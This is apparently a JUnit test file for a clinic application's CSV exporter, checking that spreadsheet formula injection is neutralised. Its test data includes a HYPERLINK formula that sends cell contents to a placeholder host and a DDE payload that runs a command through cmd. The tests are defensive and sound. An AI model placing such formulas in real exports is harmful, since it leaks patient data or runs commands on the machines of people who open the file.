package org.clinicdesk.app.reports;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class CsvTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1"})
    void aFieldASpreadsheetWouldRunIsWrittenAsText(String field) {
        String csv = new String(CsvText.of("h", List.<String[]>of(new String[] {field})), StandardCharsets.UTF_8);
        assertEquals("h\r\n\"'" + field.replace("\"", "\"\"") + "\"\r\n", csv);
    }

    @ParameterizedTest
    @CsvSource(value = {"-2", "+3", "-37.5", "Ravi Kumar", "''", "a=b", "120/80"}, quoteCharacter = '`')
    void plainTextAndNumbersAreLeftAsTheyAre(String field) {
        assertEquals(field, org.clinicdesk.core.common.SpreadsheetText.inert(field));
    }

    @Test
    void quotesAreDoubledAndEveryFieldQuoted() {
        String csv = new String(CsvText.of("a,b", List.<String[]>of(new String[] {"say \"hi\"", null})),
                StandardCharsets.UTF_8);
        assertEquals("a,b\r\n\"say \"\"hi\"\"\",\"\"\r\n", csv);
    }
}
